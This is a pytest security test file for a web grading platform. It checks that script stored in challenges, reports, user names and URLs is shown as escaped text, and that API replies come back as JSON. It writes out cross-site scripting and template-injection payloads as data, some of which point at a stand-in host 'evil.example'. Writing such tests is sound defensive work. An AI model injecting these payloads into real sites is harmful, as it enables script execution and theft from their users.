"""Script in every text that other people write: pages show it as text, the API as JSON."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import update

from grader.records.engine import writing
from grader.records.models import SubmissionRow, UserRow, WorkerRow
from grader.schemas.discussion import About, ErrorReportBody, PostBody
from grader.schemas.hardware import KernelUsage
from grader.schemas.report import Flag, Report, WorstElement
from grader.schemas.submission import State
from grader.service.accounts import tokens
from grader.service.accounts.accounts import User
from grader.service.challenges import discussion, error_reports
from grader.service.platform import Platform, open_platform
from grader.web.app import create_app
from tests.service.world import make_catalogue
from tests.web import builders
from tests.web.conftest import Visit, csrf
from tests.web.security.inert import what_runs

# Breaks out of attributes with either quote, a text area, a title, a comment and a listing, and runs.
EVIL = (
    "\"'><script>alert(1)</script></pre></textarea></title></script>--><img src=x onerror=alert(2)>"
    "<svg onload=alert(3)><a href=javascript:alert(4)>x</a>{{7919*7907}}"
)
API = "/api/v1"


@pytest.mark.parametrize(
    "page",
    [
        "<script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<p style=color:red>x</p>",
        "<form action=//evil.example>",
        "<link rel=stylesheet href=https://evil.example>",
        "<base href=/evil>",
        "<svg onload=alert(1)>",
    ],
)
def test_the_script_detector_finds_scripts(page: str) -> None:
    assert what_runs(page)


def evil_catalogue(root: Path) -> Path:
    """Staff may get it from anywhere: title, description, spec, tags, notes and starters contain script."""
    make_catalogue(root)
    folder = root / "challenges" / "scale"
    manifest = folder / "challenge.toml"
    text = manifest.read_text().replace('title = "Scale"', f"title = {json.dumps(EVIL[:80])}")
    manifest.write_text(f"tags = [{json.dumps(EVIL)}]\n{text}")
    cases = folder / "cases.py"
    cases.write_text(cases.read_text().replace('note="a prime"', f"note={EVIL!r}"))
    (folder / "spec.md").write_text(
        f"# Scale\n\n{EVIL}\n\n[x](javascript:alert(1))\n\n```python\n{EVIL}\n```\n"
    )
    for starter in folder.glob("starter.*"):
        starter.write_text(f"// {EVIL}\n" if starter.suffix == ".cu" else f"# {EVIL}\n")
    reference = root / "reference" / "scale" / "reference.py"
    reference.write_text(f"# {EVIL}\n{reference.read_text()}")
    return root


@pytest.fixture
def platform(tmp_path: Path) -> Iterator[Platform]:
    opened = open_platform(
        builders.make_settings(tmp_path, challenges=evil_catalogue(tmp_path / "catalogue"))
    )
    yield opened
    opened.close()


def evil_element() -> WorstElement:
    return WorstElement(index=[0], got="1", expected="2").model_copy(
        update={"got": EVIL[:32], "expected": EVIL[:32]}
    )


def evil_report(**values: Any) -> Report:
    report = builders.wrong(challenge="scale")
    shown = report.cases[1]
    assert shown.mismatch
    mismatch = shown.mismatch.model_copy(
        update={"argument": EVIL, "kind": EVIL, "expected": EVIL, "got": EVIL, "worst": [evil_element()]}
    )
    case = shown.model_copy(
        update={
            "name": EVIL,
            "category": EVIL,
            "detail": EVIL,
            "hint": EVIL,
            "output": EVIL,
            "mismatch": mismatch,
            "sizes": {EVIL: 3},
        }
    )
    update = {
        "cases": [case],
        "compiler_log": EVIL,
        "detail": EVIL,
        "hint": EVIL,
        "environment": {EVIL: EVIL},
        "breakdown_s": {EVIL: 1.0},
        "kernels": [KernelUsage(name=EVIL, registers=1)],
        "library_ops": [EVIL],
        "flags": [Flag.LIBRARY_KERNEL],
    }
    return report.model_copy(update=update | values)


@pytest.fixture
def ids(platform: Platform, ada: User) -> dict[str, str]:
    """One that ran, one that was fast, one that runs, one that failed; then the user's name itself is script."""
    given = {"challenge": "scale", "source": f"# {EVIL}\n", "filename": EVIL.replace("/", "")[:120] + ".py"}
    found = {"wrong": builders.judged(platform, ada, evil_report(), **given).id}
    fast = builders.accepted(challenge="scale")
    workload = fast.workloads[0].model_copy(update={"name": EVIL, "baselines_us": {EVIL: 3.0}})
    fast = fast.model_copy(update={"workloads": [workload]})
    found["accepted"] = builders.judged(platform, ada, fast, **given).id
    failed = builders.hand_in(platform, ada, **given)
    builders.fail(platform, builders.take(platform), EVIL)
    running = builders.hand_in(platform, ada, **given)
    builders.move(platform, builders.take(platform), State.TESTING, 1, 9, EVIL)
    tokens.issue_token(platform, ada, EVIL)
    discussion.add(platform, ada, About.CHALLENGE, "scale", PostBody(text=EVIL))
    error_reports.report(platform, ada, About.CHALLENGE, "scale", ErrorReportBody(text=EVIL))
    return found | {"failed": failed.id, "running": running.id}


@pytest.fixture
def evil_names(platform: Platform, ids: dict[str, str], ada: User) -> None:
    """No such name can be created; pages do not rely on that."""
    with writing(platform.sessions) as session:
        session.execute(update(UserRow).where(UserRow.id == ada.id).values(name=EVIL[:64]))
        session.execute(update(SubmissionRow).values(device=EVIL[:32]))
        session.add(
            WorkerRow(
                name="w", device="h200", languages="triton", host=EVIL, pid=1, gpu="G", out_of_service=EVIL
            )
        )


def pages(ids: dict[str, str]) -> list[str]:
    return [
        "/",
        "/challenges/scale",
        "/challenges/scale/versions",
        "/challenges/scale/discussion",
        "/leaderboards/scale",
        f"/leaderboards/scale?device={EVIL}",
        "/submissions",
        "/submissions?everyone=1",
        f"/submissions?challenge={EVIL}",
        "/progress",
        f"/progress?user={EVIL}",
        "/account",
        f"/nothing/{EVIL}",
        *(f"/submissions/{each}" for each in ids.values()),
        *(f"/submissions/{each}/panel" for each in ids.values()),
        *(f"/submissions/{each}/diff" for each in ids.values()),
        f"/submissions/{ids['wrong']}?cases={EVIL}",
        f"/submissions/{ids['wrong']}/diff?against={EVIL}",
    ]


def test_no_page_runs_stored_script(visit: Visit, ids: dict[str, str], ada: User, teacher: User) -> None:
    shown = 0
    for user in (ada, teacher):
        client = visit(user)
        for path in pages(ids):
            page = client.get(path)
            assert page.mimetype == "text/html"
            assert what_runs(page.text) == [], path
            assert "{{7919*7907}}" in page.text or "62615533" not in page.text, path
            shown += "&lt;script&gt;" in page.text
    assert shown > 15  # it is there, as text


@pytest.mark.usefixtures("evil_names")
def test_no_page_runs_script_in_names(visit: Visit, ids: dict[str, str], teacher: User) -> None:
    client = visit(teacher)
    more = ("/inbox", "/leaderboards/scale", "/users/ada", "/people", "/design", f"/?q={EVIL}&track={EVIL}")
    for path in (*pages(ids), *more):
        assert what_runs(client.get(path).text) == [], path


@pytest.mark.usefixtures("evil_names")
def test_api_answers_are_json_with_nosniff(
    app: Flask, call: Visit, ids: dict[str, str], teacher: User
) -> None:
    client = call(teacher)
    for path in (
        "/challenges",
        "/challenges/scale",
        "/challenges/scale/versions",
        "/discussions/challenge/scale",
        "/leaderboards/scale",
        f"/leaderboards/{EVIL}",
        "/submissions?everyone=true",
        "/health",
        "/tokens",
        *(f"/submissions/{each}{part}" for each in ids.values() for part in ("", "/source", "/report")),
    ):
        answer = client.get(API + path)
        assert answer.mimetype == "application/json", path
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        json.loads(answer.data)


def test_rejected_form_input_is_escaped(visit: Visit, ada: User, app: Flask) -> None:
    client = visit(ada)
    sent = {
        "/challenges/scale": {
            "language": "triton",
            "source-triton": EVIL + "\0",
            "device": EVIL,
            "nonce": EVIL,
        },
        "/account/password": {"present": EVIL, "new": EVIL},
        "/sign-in": {"name": EVIL, "password": EVIL, "next": EVIL},
    }
    for path, form in sent.items():
        answer = client.post(path, data=form | {"csrf_token": csrf(client, "/challenges/scale")})
        assert answer.status_code in (400, 401, 403), path
        assert what_runs(answer.text) == [], path


def test_exception_text_is_not_shown(
    app: Flask, visit: Visit, ada: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError(EVIL)

    client = visit(ada)
    monkeypatch.setattr("grader.service.submissions.submissions.list_submissions", broken)
    page = client.get("/submissions")
    assert page.status_code == 500
    assert "alert(" not in page.text  # every page has an element of the role alert


def test_sign_up_refuses_script_as_a_name(tmp_path: Path) -> None:
    opened = open_platform(builders.make_settings(tmp_path / "open", sign_up="open"))
    client = create_app(opened).test_client()
    form = {"name": EVIL, "password": builders.PASSWORD, "csrf_token": csrf(client, "/sign-up")}
    page = client.post("/sign-up", data=form)
    opened.close()
    assert (page.status_code, what_runs(page.text)) == (400, [])
